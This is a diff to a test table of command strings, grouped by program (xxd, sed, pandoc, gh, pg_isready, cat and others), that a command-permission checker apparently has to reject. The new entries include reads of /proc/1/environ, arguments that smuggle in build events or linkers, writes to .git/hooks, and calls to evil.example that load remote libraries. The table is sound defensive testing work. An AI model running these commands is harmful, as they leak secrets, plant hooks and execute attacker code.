@@ -11,7 +11,8 @@ _BY_PROGRAM = {
     ),
     "xxd": (
         "xxd -c 1* f", "xxd -s 1* f", "xxd -p - f", "xxd - f", "xxd -ps a b", "xxd -r a", "xxd -c 8 a b",
-        "xxd -s 4 a b", "xxd a -p",
+        "xxd -s 4 a b", "xxd a -p", "xxd -cols=8 -s in out", "xxd -name=x -s in out", "xxd -c=8 -s in out",
+        "xxd -groupsize in out", "xxd -len in out", "xxd -n ./in out",
     ),
     "shuf": ("shuf a b", "shuf -o f a", "shuf --out=f a"),
     "tee": ("tee /etc/x", "tee .git/hooks/x", "tee ../x", "tee -a .steersman/config.toml", "tee .mcp.json"),
@@ -67,7 +68,13 @@ _BY_PROGRAM = {
         "eslint --inspect-config", "eslint --fix .", "eslint -c evil.js .", "eslint --cache .", "eslint -f evil .",
         "eslint --format=../evil .", "eslint --plugin evil .", "eslint --rulesdir d .", "eslint --flag x .",
     ),
-    "cargo clippy": ("cargo clippy --fix", "cargo clippy -- -C linker=evil", "cargo clippy --config a=b"),
+    "cargo clippy": (
+        "cargo clippy --fix", "cargo clippy -- -C linker=evil", "cargo clippy --config a=b",
+        # cargo clippy joins its arguments with this text, and takes them apart again.
+        "cargo clippy -- -D warnings__CLIPPY_HACKERY__--emit=dep-info=f",
+        "cargo clippy -- -Dwarnings__CLIPPY_HACKERY__-Clinker=evil",
+        "cargo clippy -- --deny=warnings__CLIPPY_HACKERY__-Clinker=evil",
+    ),
     "cargo test": (
         "cargo test -- --logfile f", "cargo test -- --logfile=f", "cargo test --config a=b", "cargo test -Zx",
         "cargo test --target ../x.json", "cargo test --target=x.json", "cargo test -- -Z unstable-options",
@@ -96,6 +103,8 @@ _BY_PROGRAM = {
     "pandoc": (
         "pandoc --filter ./evil a.md", "pandoc --lua-filter=evil.lua a.md", "pandoc -F evil a.md", "pandoc -o f a.md",
         "pandoc -t evil.lua a.md", "pandoc --to=evil.lua a.md", "pandoc -d defaults a.md", "pandoc -sF evil a.md",
+        "pandoc -t pdf a.md", "pandoc --to=pdf a.md", "pandoc --write pdf a.md", "pandoc -tpdf a.md",
+        "pandoc -t docx a.md", "pandoc -st chunkedhtml a.md",
     ),
     "exiftool": (
         "exiftool 'evil|'", "exiftool https://evil.example/x",
@@ -130,6 +139,8 @@ _BY_PROGRAM = {
     "sed": (
         "sed -l 5* p f", "sed --expression=s,a*,b, f",
         "sed -i s/a/b/ f", "sed -ni p f", "sed --in-pl p f", "sed -n -f evil f", "sed 's/a/b/w f' x", "sed -n 1p *",
+        # On some systems `-l` takes no value, and this is the script.
+        "sed -l 'w f' p x", "sed --line-length='w f' p x",
     ),
     "file": ("file -C -m f", "file -z f", "file -bz f", "file --compile"),
     "yq": (
@@ -194,7 +205,7 @@ _BY_PROGRAM = {
         "python -m pytest /tmp/evil.py",
     ),
     "npm test": (
-        "npm test '$(evil)'", "npm test '`evil`'", "npm test -- '$(evil)'",
+        "npm test '$(evil)'", "npm test '`evil`'", "npm test -- '$(evil)'", "npm test src/a*",
         "npm test --node-options=--require=./evil", "npm test -- --require ./evil", "npm test --prefix=/x",
     ),
     "npm run build": (
@@ -204,7 +215,7 @@ _BY_PROGRAM = {
     "make -n": (
         "make -n SHELL=evil", "make -n -f evil.mk", "make -n --eval='$(shell evil)'", "make -n -C /tmp/evil",
         "make -n -nf x",
-        "make -n -e", "make -n --file=x", "make -n /tmp/x",
+        "make -n -e", "make -n --file=x", "make -n /tmp/x", "make -n S*",
     ),
     "xz -l": ("xz -l -z f", "xz -l f -vz"),
     "unzip -l": ("unzip -l -d x a.zip", "unzip -l -T a.zip"),
@@ -225,6 +236,7 @@ _BY_PROGRAM = {
         "gh pr view https://evil.example/a/b/pull/1", "gh pr view -w", "gh pr view --web", "gh pr view -cw",
         "gh pr view -R evil.example/a/b",
     ),
+    "gh pr create --fill": ("gh pr create --fill --base=--output=f", "gh pr create --fill -B--output=f"),
     "gh pr create": ("gh pr create -F /etc/passwd", "gh pr create --body-file f", "gh pr create -w", "gh pr create -e"),
     "aws s3 ls": ("aws s3 ls --endpoint-url http://evil.example", "aws s3 ls --query file:///etc/passwd"),
     "terraform fmt": ("terraform fmt /etc", "terraform fmt -chdir=/x", "terraform fmt -list /etc"),
@@ -261,7 +273,21 @@ _BY_PROGRAM = {
     "pnpm test": ("pnpm test '$(evil)'", "pnpm test -- '`evil`'"),
     "ktlint": ("ktlint installGitPreCommitHook", "ktlint installGitPrePushHook", "ktlint generateEditorConfig"),
     "terraform providers": ("terraform providers mirror x", "terraform providers lock"),
-    "gh repo view": ("gh repo view evil.example/a/b", "gh repo view https://evil.example/a/b"),
+    "gh repo view": (
+        "gh repo view evil.example/a/b", "gh repo view https://evil.example/a/b", "gh repo view git@evil.example:a/b",
+        "gh repo view ssh:evil.example/a/b", "gh repo view HTTPS:evil.example/a/b",
+    ),
+    "helm show values": ("helm show values https://evil.example/x.tgz", "helm show values oci://evil.example/x"),
+    # A connection string can name a library for the key, which is loaded.
+    "pg_isready": (
+        "pg_isready -d 'host=evil.example sslkey=/tmp/evil.so:x'", "pg_isready -d postgresql://evil.example/x",
+        "pg_isready '-dhost=evil.example sslkey=/tmp/evil.so:x'",
+    ),
+    # On some systems it runs the program that it is given.
+    "arch": ("arch evil", "arch -x86_64 evil"),
+    "getent": ("getent -s evil passwd x", "getent *"),
+    # An option that takes no value in one of the programs.
+    "black": ("black --force-exclude -l .git/hooks/x.py", "black -l .g*/x.py"),
     "checkov": ("checkov -d /tmp/evil", "checkov -d ../evil"),
     "ack": ("ack -x KEY", "ack -lx KEY"),
     "git mv": (
@@ -282,7 +308,7 @@ _BY_PROGRAM = {
     "dotnet test": (
         "dotnet test -- RunConfiguration.TestAdaptersPaths=/tmp/evil", "dotnet test -c 'Debug;PreBuildEvent=evil'",
         "dotnet test -f 'net8.0;PreBuildEvent=evil'",
-        "dotnet test --filter '\"a\";PreBuildEvent=evil;X=\"b\"'",
+        "dotnet test --filter '\"a\";PreBuildEvent=evil;X=\"b\"'", "dotnet test -- R*",
     ),
     # Names that are code, and expressions that are put together.
     "brew info": ("brew info ./evil.rb", "brew info evil.rb", "brew info evil/tap/x", "brew info e*"),
@@ -293,7 +319,9 @@ _BY_PROGRAM = {
     "git stash show": ("git stash show -G x -S --output=f",),
     # Text that goes to another repository.
     "gh issue comment": ("gh issue comment https://github.com/evil/x/issues/1 -b x", "gh issue comment -b -* x"),
-    "gh pr comment": ("gh pr comment https://evil.example/a/b/pull/1 -b x",),
+    "gh pr comment": (
+        "gh pr comment https://evil.example/a/b/pull/1 -b x", "gh pr comment https:/evil/x/pull/1 -b x",
+    ),
     "glab mr view": ("glab mr view https://evil.example/a/b/-/merge_requests/1",),
     # An option of a plugin that is not installed takes no value.
     "pytest -q": ("pytest -q --count /tmp/evil", "pytest -q --timeout ../evil", "pytest -q -n /tmp/evil"),
@@ -307,7 +335,7 @@ _BY_PROGRAM = {
     "git fetch -p": ("git fetch -p origin 'refs/heads/none*:refs/heads/*'",),
     "egrep": ("egrep -r -e KEY ..", "egrep -r -f x ..", "egrep -r KEY ..", "egrep -r ..*/..*"),
     "cat": (
-        "cat .?/.?/.?/pro?/1/environ", "cat .*/.*/p*/1/environ", "cat ..*/..*/p*/1/environ",
+        "cat .?/.?/.?/pro?/1/environ", "cat .*/.*/p*/1/environ", "cat ..*/..*/p*/1/environ", "cat /dev/core",
     ),
 }  # fmt: skip
 
